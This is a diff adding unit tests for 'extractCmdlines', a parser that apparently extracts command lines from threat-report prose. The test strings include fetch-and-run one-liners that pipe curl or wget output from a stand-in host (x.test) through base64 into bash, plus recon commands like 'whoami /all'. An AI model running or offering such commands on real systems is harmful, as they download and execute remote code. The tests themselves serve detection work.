@@ -442,4 +442,51 @@ describe('extractCmdlines', () => {
     // A quote left open to the end of the block does not swallow the commands after a blank line.
     expect(values('```\necho "start\n\nwhoami /all\nnet user\n```')).toEqual(['echo "start', 'whoami /all', 'net user']);
   });
+
+  it('reads a quoted one-liner that pipes a download into a decoder and a shell once, without its quotes', () => {
+    expect(values('The victim is told to paste "curl -fsSL https://x.test/a.sh | base64 -d | bash" into the Terminal.')).toEqual([
+      'curl -fsSL https://x.test/a.sh | base64 -d | bash',
+    ]);
+    expect(values("The clipboard held 'curl -s http://x.test/p | base64 --decode | sh' which runs it.")).toEqual([
+      'curl -s http://x.test/p | base64 --decode | sh',
+    ]);
+    expect(values('The script executes "wget -q -O - http://x.test/m | bash -s" to fetch the miner.')).toEqual([
+      'wget -q -O - http://x.test/m | bash -s',
+    ]);
+  });
+
+  it('reads a quoted one-liner that quotes within itself', () => {
+    expect(values(`It runs "bash -c 'curl -s http://x.test/a | base64 -D | zsh'" silently.`)).toEqual([
+      "bash -c 'curl -s http://x.test/a | base64 -D | zsh'",
+    ]);
+    expect(values(`Victims pasted 'echo "Y3VybCBodHRw" | base64 -d | bash' into Terminal.`)).toEqual([
+      'echo "Y3VybCBodHRw" | base64 -d | bash',
+    ]);
+    expect(values(`The user said "it's done" and 'that's all' after.`)).toEqual([]);
+  });
+
+  it('drops the quotes a line (or its label) sets around a whole command, not those around a program path', () => {
+    expect(values(`- Clipboard payload: "echo 'Y3VybCBodHRw' | base64 -d | bash"`)).toEqual(["echo 'Y3VybCBodHRw' | base64 -d | bash"]);
+    expect(values('"curl -s http://x.test/a | sh"')).toEqual(['curl -s http://x.test/a | sh']);
+    expect(values('"C:\\Program Files\\Acme\\acme.exe" -k run')).toEqual(['"C:\\Program Files\\Acme\\acme.exe" -k run']);
+  });
+
+  it('reads a program path a sentence calls a command line, even without arguments', () => {
+    expect(values('Here the following command line initiated the process: C:\\Users\\bob\\Downloads\\Host.exe Of note is that.')).toEqual([
+      'C:\\Users\\bob\\Downloads\\Host.exe',
+    ]);
+    expect(values('The command line was: %TEMP%\\a.exe.')).toEqual(['%TEMP%\\a.exe']);
+    expect(values('The command line tool C:\\Tools\\x.exe is handy.')).toEqual([]);
+  });
+
+  it('reads a shell handed a quoted script in a sentence, and a command a sentence sets in brackets up to the close', () => {
+    expect(values('It executes sh -c "curl -fsSL http://x.test/a | sh" via cron.')).toEqual(['sh -c "curl -fsSL http://x.test/a | sh"']);
+    expect(values('The option sh -c is documented.')).toEqual([]);
+    expect(values('The one-liner (curl -s http://x.test/a | bash) downloads the next stage.')).toEqual(['curl -s http://x.test/a | bash']);
+    expect(values('It ran (cmd.exe /c whoami /all), then exited.')).toEqual(['cmd.exe /c whoami /all']);
+  });
+
+  it('reads a one-liner in typographic single quotes that quotes within itself, without the closing mark', () => {
+    expect(values('Victims paste ‘echo "Y3VybA==" | base64 -d | bash’ into Terminal.')).toEqual(['echo "Y3VybA==" | base64 -d | bash']);
+  });
 });
